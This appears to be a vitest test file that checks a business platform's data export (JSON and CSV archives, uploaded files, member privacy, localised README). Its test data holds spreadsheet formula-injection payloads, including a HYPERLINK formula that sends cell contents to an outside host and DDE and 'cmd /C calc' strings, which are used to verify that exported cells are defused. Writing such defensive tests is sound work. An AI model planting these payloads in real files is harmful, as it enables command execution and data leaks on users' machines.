// What was entered stands in the export, exactly; in spreadsheets nothing of it is computed.
import { randomUUID } from 'node:crypto'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import type { StoredFileEntry, UploadDescriptorEntry } from '../../contract/files.ts'
import { aBusiness } from '../../testing/businesses.ts'
import { testDatabase } from '../../testing/database.ts'
import { archiveOf, jsonIn, rowsIn } from '../../testing/exports.ts'
import { aFileServer } from '../../testing/files.ts'
import { aPostBy } from '../../testing/posts.ts'
import { aTrade } from '../../testing/products.ts'
import { aSession } from '../../testing/sessions.ts'
import { follow } from '../follows/following.ts'

const database = await testDatabase()
const { db } = database
const server = await aFileServer(database)

async function aCompany(people: { language?: string } = {}) {
  const [owner, member] = [
    await aSession(db),
    await aSession(db, {
      firstName: '=1+1',
      lastName: '佐藤',
      email: `hidden-address-${randomUUID()}@mail.example`,
    }),
  ]
  const { businessID } = await aBusiness(db, {
    members: [
      { userID: owner.userID, role: 'owner' },
      { userID: member.userID, role: 'member' },
    ],
  })
  const send = async (method: string, path: string, body: object) => {
    const response = await fetch(`${server.origin}/api${path}`, {
      method,
      headers: { 'content-type': 'application/json', authorization: owner.bearer },
      body: JSON.stringify(body),
    })
    const answer = (await response.json()) as { data: Record<string, unknown> }
    expect([response.status, answer], path).toEqual([200, expect.anything()])
    return answer.data
  }
  const exported = () => archiveOf(db, server, { ...people, bearer: owner.bearer, businessID })
  return { owner, member, businessID, send, exported }
}
type Company = Awaited<ReturnType<typeof aCompany>>

async function upload({ owner, businessID, send }: Company, colour: string): Promise<StoredFileEntry> {
  const picture = await sharp({ create: { width: 90, height: 60, channels: 3, background: colour } })
    .png()
    .toBuffer()
  const asked = await send('POST', '/files/upload-request/business', {
    businessID,
    contentType: 'image/png',
    fileSize: picture.length,
  })
  const { signedPost, token } = asked as unknown as UploadDescriptorEntry
  expect(await server.post(signedPost, picture)).toBe(204)
  const { data } = await server.call(owner.bearer, '/files/upload-validate', { token })
  return (data as { file: StoredFileEntry }).file
}

const formula = '=HYPERLINK("https://x.example/?"&A1,"click")'
const sections = {
  general: {
    companyName: 'Kitazawa “Bearing” Works, 北沢',
    shortDescription: `${formula}\nsecond line, "quoted"`,
    generalDescription: "@SUM(1+1)*cmd|' /C calc'!A0\n\n  indented — ½ \"",
    businessType: 'MA',
    categories: ['0006.0006-01', '0004.0004-03'],
    registerNumber: '-0100-01-123456',
    yearStablished: 1954,
    totalAnnualRevenue: { min: 1_000_000, max: 5_000_000.5, currency: 'JPY' },
    totalEmployees: { min: 51, max: null },
    totalProductionEmployees: { min: 0, max: 40 },
    productionCapacity: { min: 10, max: 20.25, unit: 'pcs', period: 'month' },
    video: 'https://www.youtube.com/watch?v=aqz-KE-bpKQ',
    timeZone: 'Asia/Tokyo',
  },
  contactInfo: {
    legalAddressEnglish: '+1 Industrial Road\nOsaka',
    legalAddressLocal: '大阪市北区1-2-3',
    shippingAddressEnglish: '2 Harbour Road',
    city: '大阪市',
    zipcode: '530-0001',
    country: 'JP',
    state: 'JP-27',
    email: 'sales@kitazawa.example',
    website: 'https://kitazawa.example/?a=1&b=%20',
    phone: { countryCode: '+81', businessPhoneNumber: '612345678' },
    mobilePhone: { countryCode: '', businessPhoneNumber: '' },
    inquiriesFrom: 'connections',
  },
  factory: {
    manufacturingFacilities: 'CNC lathes:\t4\n= 12 presses',
    city: 'Sakai',
    zipcode: '590',
    country: 'JP',
    state: 'JP-27',
    factorySize: 1234.5,
    numberProductionLines: 3,
    contractManufacturing: ['oem'],
  },
  tradeCapabilities: {
    markets: ['IT', 'JP'],
    spokenLanguages: ['ja', 'en'],
    totalEmployeesSales: 7,
    averageLeadTime: 30,
  },
  businessTerms: {
    acceptedDeliveryTerms: ['FOB', 'CIF'],
    acceptedPaymentCurrencies: ['JPY', 'EUR'],
    packagingTypes: ['wooden-case'],
    acceptedPaymentTypes: ['tt', 'lc'],
  },
}

test('every field of a company that was entered stands there exactly', async () => {
  const company = await aCompany()
  for (const [name, fields] of Object.entries(sections))
    await company.send('PUT', `/business/profile/${company.businessID}/${name}`, { revision: 0, ...fields })
  await follow(db, { type: 'user', id: company.member.userID }, { type: 'business', id: company.businessID })

  const archive = await company.exported()
  expect(jsonIn(archive, 'business.json')).toMatchObject({
    businessID: company.businessID,
    ...sections,
    followers: 1,
    subscription: 'standard',
    verification: null,
  })
})

const product = {
  name: '+Deep groove ball bearing 6204',
  description: `-2+3+cmd|' /C calc'!A0\n${formula}`,
  category: '0006.0006-01',
  keywords: ['=SUM(A1)', '軸受, "deep"', 'a;b'],
  specs: [
    { key: '@Bore', value: '20 mm' },
    { key: 'Outside', value: '=1+1' },
  ],
  leadTime: 14,
  stock: true,
  videos: ['https://vimeo.com/76979871'],
  ...aTrade,
  trade: { ...aTrade.trade, packaging: '+Box' },
}
const certificate = {
  name: 'ISO 9001:2015 “quality”',
  number: '=DDE("cmd";"/C calc";"__DdeLink")',
  issuer: '@TÜV',
  scope: '-1 lathe, "2" presses',
  issueDate: '2024-01-31',
  expireDate: '2027-01-30',
}

test('products, certificates, people and files stand there too, each with its picture', async () => {
  const company = await aCompany()
  const [main, photo, paper] = [
    await upload(company, '#1d4f8c'),
    await upload(company, '#aa1100'),
    await upload(company, '#00aa44'),
  ]
  const { businessID, send } = company
  const fields = { ...product, mainImage: main.fileID, photos: [photo.fileID] }
  const { productID } = await send('POST', '/product', { businessID, ...fields })
  const { id } = await send('POST', `/business/${businessID}/certificate`, {
    ...certificate,
    photo: paper.fileID,
  })
  const archive = await company.exported()
  expect(jsonIn(archive, 'products.json')).toEqual([
    {
      ...product,
      language: '',
      documents: [],
      translations: {},
      productID,
      state: 'draft',
      changedAt: expect.any(String),
      mainImage: main.url,
      photos: [photo.url],
      pictureTexts: {},
    },
  ])
  expect(jsonIn(archive, 'certificates.json')).toEqual([
    {
      certificateID: id,
      ...certificate,
      scopes: {},
      photo: paper.url,
      document: '',
      confirmedOn: '',
      confirmedWhere: '',
    },
  ])
  expect(jsonIn(archive, 'team.json')).toEqual([
    expect.objectContaining({ userID: company.owner.userID, role: 'owner' }),
    {
      userID: company.member.userID,
      firstName: '=1+1',
      lastName: '佐藤',
      role: 'member',
      since: expect.any(String),
    },
  ])

  const [, ...files] = rowsIn(archive, 'files.csv')
  expect(new Set(files.map(([fileID]) => fileID))).toEqual(
    new Set([main, photo, paper].map(({ fileID }) => fileID)),
  )
  for (const [fileID = '', path = '', , , , bytes] of files) {
    const content = archive.get(path)
    expect([path, content?.length]).toEqual([expect.stringContaining(fileID), Number(bytes)])
    const url = [main, photo, paper].find((file) => file.fileID === fileID)?.url ?? ''
    const kept = Buffer.from(await (await fetch(server.url(url))).arrayBuffer())
    expect(content?.equals(kept)).toBe(true)
  }
  expect([...archive.keys()].filter((name) => name.startsWith('files/'))).toHaveLength(3)
})

test('no cell of a spreadsheet is a formula, and every one says all that was entered', async () => {
  const company = await aCompany()
  await company.send('POST', '/product', {
    businessID: company.businessID,
    ...product,
    mainImage: '',
    photos: [],
  })
  await company.send('POST', `/business/${company.businessID}/certificate`, certificate)

  const archive = await company.exported()
  for (const name of ['products.csv', 'certificates.csv', 'team.csv', 'files.csv'])
    for (const cell of rowsIn(archive, name).flat())
      expect(cell, name).not.toMatch(/^[\s\u200b]*[=+\-@\t\r＝＋－＠]/)
  const [, products = []] = rowsIn(archive, 'products.csv')
  expect(products).toContain(`'${product.name}`)
  expect(products).toContain(`'${product.description}`)
  expect(products).toContain(`'${product.keywords.join('\n')}`)
  const [, certificates = []] = rowsIn(archive, 'certificates.csv')
  expect(certificates.slice(1, 5)).toEqual([
    certificate.name,
    `'${certificate.number}`,
    `'${certificate.issuer}`,
    `'${certificate.scope}`,
  ])
  expect(rowsIn(archive, 'team.csv')[2]?.slice(1, 4)).toEqual([`'=1+1`, '佐藤', 'Member'])
})

test('nobody’s address is in it, and the page that explains it is in the language of who asked', async () => {
  const company = await aCompany({ language: 'ja' })
  const archive = await company.exported()
  expect([...archive.keys()]).toEqual([
    'business.json',
    'certificates.json',
    'certificates.csv',
    'verification.json',
    'team.json',
    'team.csv',
    'favourites.json',
    'posts.json',
    'comments.json',
    'connections.json',
    'inquiries.json',
    'invoices.json',
    'products.json',
    'products.csv',
    'files.csv',
    'README.txt',
  ])
  expect(archive.get('README.txt')?.toString()).toMatch(/Kitazawa Bearing Works.*[ぁ-ん]/)
  expect(rowsIn(archive, 'team.csv')[1]?.[3]).toBe('オーナー')
  for (const [name, content] of archive) {
    expect(content.toString(), name).not.toContain('hidden-address')
    expect(content.toString(), name).not.toContain(`${company.owner.userID}@`)
  }
})

test('many products are there, each once, and lists of nothing are lists', async () => {
  const owner = await aSession(db)
  const { businessID, productIDs } = await aBusiness(db, {
    plan: 'platinum',
    members: [{ userID: owner.userID, role: 'owner' }],
    products: 101,
  })
  const written = await aPostBy(db, { type: 'business', id: businessID }, { content: '=1+1 "as it is"' })
  const archive = await archiveOf(db, server, { bearer: owner.bearer, businessID })
  expect(jsonIn(archive, 'posts.json')).toMatchObject([
    { postID: written, content: '=1+1 "as it is"', earlier: [] },
  ])
  const products = jsonIn(archive, 'products.json') as { productID: string }[]
  expect(products.map(({ productID }) => productID)).toEqual(productIDs.toSorted((a, b) => (a < b ? -1 : 1)))
  expect(rowsIn(archive, 'products.csv')).toHaveLength(102)
  expect(jsonIn(archive, 'favourites.json')).toEqual([])
  expect(jsonIn(archive, 'connections.json')).toEqual([])
  expect(jsonIn(archive, 'invoices.json')).toEqual([])
  expect(jsonIn(archive, 'certificates.json')).toEqual([])
})
